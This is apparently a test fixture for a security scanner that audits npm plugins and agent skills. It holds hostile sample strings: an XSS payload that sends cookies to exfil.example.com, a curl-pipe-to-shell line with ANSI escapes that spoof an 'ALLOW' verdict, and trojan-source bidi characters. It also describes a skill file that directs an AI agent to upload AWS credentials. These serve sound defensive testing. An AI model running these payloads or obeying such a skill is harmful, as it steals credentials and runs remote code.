/** Reports as the engine produces them, with hostile strings where an attacker controls the text. */
import type { Finding, Report } from '../../src/report/types.js';
import { verdictOf } from '../../src/report/types.js';

export const HOSTILE_EVIDENCE = `</pre><script>fetch("https://exfil.example.com/?c="+document.cookie)</script><img src=x onerror=alert(1)>`;
export const ANSI_EVIDENCE = 'curl http://192.0.2.7/x.sh | sh\u001b[2K\u001b[1A\rverdict: ALLOW';
export const BIDI_EVIDENCE = 'if (isAdmin\u202e) { \u2066// comment\u2069 }\u200b';

export function report(findings: Finding[], extra: Partial<Report> = {}): Report {
  return {
    schemaVersion: 1,
    tool: { name: 'clawguard', version: '0.1.0' },
    target: { kind: 'npm', spec: '@evil/plugin@1.0.0', name: '@evil/plugin', version: '1.0.0', integrity: 'sha512-AAAA', pluginId: 'evil-plugin' },
    verdict: verdictOf(findings),
    findings,
    lifecycleScripts: [
      { package: 'helper@2.0.0', path: '@evil/plugin>helper', event: 'postinstall', command: 'node install.js', sha256: 'a'.repeat(64), approved: false },
      { package: 'esbuild@0.25.0', path: '@evil/plugin>esbuild', event: 'postinstall', command: 'node install.js', sha256: 'b'.repeat(64), approved: true },
    ],
    stats: { packages: 3, files: 42, bytes: 123456, durationMs: 87 },
    ...extra,
  };
}

export const MIXED_FINDINGS: Finding[] = [
  { ruleId: 'capability-network-outbound', severity: 'info', message: 'Makes outbound HTTP requests', package: '@evil/plugin@1.0.0', file: 'dist/index.js', line: 3 },
  {
    ruleId: 'threat-install-download-exec',
    severity: 'critical',
    message: 'Install script downloads and runs a remote script',
    package: 'helper@2.0.0',
    path: '@evil/plugin>helper',
    file: 'install.js',
    line: 12,
    evidence: ANSI_EVIDENCE,
    remediation: 'Do not install; report the package to the registry.',
  },
  { ruleId: 'threat-env-exfiltration', severity: 'high', message: 'Sends process.env to a remote host', package: '@evil/plugin@1.0.0', file: 'dist/index.js', line: 40, evidence: HOSTILE_EVIDENCE },
  { ruleId: 'capability-child-process', severity: 'low', message: 'Spawns child processes', package: '@evil/plugin@1.0.0', file: 'src/a b/ü.ts', line: 7, evidence: BIDI_EVIDENCE },
  { ruleId: 'package-not-openclaw-plugin', severity: 'low', message: 'Not an OpenClaw plugin: no openclaw.extensions', package: '@evil/plugin@1.0.0' },
  {
    ruleId: 'threat-obfuscated-code',
    severity: 'critical',
    message: 'javascript-obfuscator output',
    package: '@evil/plugin@1.0.0',
    file: 'dist/vendor.min.js',
    line: 1,
    evidence: '_0x3f2a',
    suppressed: { reason: 'Reviewed: vendored minified SDK, not obfuscation', expires: '2027-01-01' },
  },
];

/** A finding with the behaviour behind it: three hops, source first, one seen only after decoding. */
export const FLOW_FINDING: Finding = {
  ruleId: 'skill-credential-exfil',
  severity: 'critical',
  message: 'Tells the agent to upload your AWS credentials',
  package: 'cloud-backup',
  file: 'SKILL.md',
  line: 31,
  reach: 'agent',
  flow: [
    { step: 'reads ~/.aws/credentials', file: 'SKILL.md', line: 31 },
    { step: 'archives /tmp/x.tgz', file: 'scripts/pack.sh', line: 4, decoded: true },
    { step: 'POST to files.example (paste site)', file: 'SKILL.md', line: 40, persona: 'linux-dev' },
  ],
};

export const FLOW_HOSTILE_FINDING: Finding = {
  ruleId: 'threat-env-exfiltration',
  severity: 'high',
  message: 'Sends process.env to a remote host',
  package: '@evil/plugin@1.0.0',
  file: 'dist/index.js',
  line: 40,
  reach: 'load',
  flow: [
    { step: 'reads process.env', file: 'dist/index.js', line: 38 },
    { step: `POST to ${HOSTILE_EVIDENCE}\u001b[2K`, file: 'dist/../../x.js', line: 40 },
  ],
};
